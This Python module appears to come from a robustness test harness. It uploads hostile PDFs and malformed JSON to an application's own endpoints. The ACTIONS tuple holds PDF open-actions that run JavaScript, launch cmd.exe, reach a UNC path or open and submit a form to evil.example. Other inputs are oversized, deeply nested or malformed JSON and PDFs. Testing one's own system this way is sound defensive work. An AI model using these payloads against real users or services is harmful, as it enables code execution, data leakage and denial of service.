"""Files and texts that are more than they seem."""

from functools import cache
from io import BytesIO

import pikepdf

from proof.chaos.attack.attacking import Attacker
from proof.chaos.attack.raw import ask

ACTIONS = (
    "<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    "<< /S /Launch /F (cmd.exe) >>",
    "<< /S /GoToR /F (\\\\\\\\evil\\\\x) /D [0 /Fit] >>",
    "<< /S /GoToE /T << /R /C >> >>",
    "<< /S /URI /URI (http://evil.example/) >>",
    "<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>",
    "<< /S /#4AavaScript /#4AS (1) >>",
    "<< /S /ImportData /F (x) >>",
)
DEEP = 100_000
TEXTS: tuple[bytes, ...] = (
    b"[" * DEEP + b"]" * DEEP,
    b'{"a":' * DEEP + b"1" + b"}" * DEEP,
    b'{"draft":{"goods":' + b"[" * 5000 + b"]" * 5000 + b"}}",
    b'{"draft":{"kind":' + b"9" * 5000 + b"}}",
    b'{"draft":{"certificate":{"remarks":"\\ud800"}}}',
    b'{"draft":{"certificate":{"remarks":"\\u0000"}}}',
    b'{"draft":{"source_invoice":{"date":"99999-99-99"}}}',
    b'{"draft":NaN}',
    b'{"draft":{"own_reference":"\xff"}}',
    b"\xef\xbb\xbf{}",
    b"{" + b'"k":1,' * 300_000 + b'"k":1}',
    b'"' + b"x" * 4_000_000 + b'"',
    b"",
)
HEAVY_OBJECTS = 300_000


@cache
def heavy_pdf() -> bytes:
    """A small PDF of 300,000 empty dictionaries."""
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.Keep = document.make_indirect(pikepdf.Object.parse(b"[" + b"<<>>" * HEAVY_OBJECTS + b"]"))
    return _saved(document)


@cache
def active_pdf(action: str) -> bytes:
    """A PDF that does something when it is opened."""
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.OpenAction = pikepdf.Object.parse(action.encode())
    return _saved(document)


def _saved(document: pikepdf.Pdf) -> bytes:
    out = BytesIO()
    document.save(out)
    return out.getvalue()


async def _upload(attacker: Attacker, content: bytes, what: str, *, is_hostile: bool) -> None:
    scene = attacker.scene
    url = f"{scene.api}/applications/{scene.draft}/files?kind=evidence"
    content += b"\n" * attacker.rng.randint(0, 9)
    answer = await ask(url, "POST", content, Content_Type="application/pdf", X_Filename="a.pdf", **scene.login)
    attacker.tally.note(what, answer, wins=is_hostile and answer.is_yes)


async def heavy_files(attacker: Attacker) -> None:
    """A file that is dear to look into."""
    await _upload(attacker, heavy_pdf(), "heavy file", is_hostile=False)


async def active_files(attacker: Attacker) -> None:
    """A file that does something in the examiner's viewer."""
    action = attacker.rng.choice(ACTIONS)
    await _upload(attacker, active_pdf(action), f"PDF with {action[:24]}", is_hostile=True)


async def texts(attacker: Attacker) -> None:
    """JSON too deep, too long, or none."""
    scene, rng = attacker.scene, attacker.rng
    body = rng.choice(TEXTS)
    own = f"{scene.api}/applications"
    urls = [own, f"{own}/{scene.draft}/check", f"{scene.reference}/v1/lookups"]
    urls += [f"{scene.api}/{name}" for name in ("previews", "sessions", "payments", "registration-requests")]
    key = f'"{rng.getrandbits(100):x}"'
    more = scene.login if rng.random() < 0.8 else {}
    url = rng.choice(urls)
    answer = await ask(url, "POST", body, Content_Type="application/json", Idempotency_Key=key, **more)
    attacker.tally.note(f"{body[:24]!r} at {url.rpartition('/')[2]}", answer)
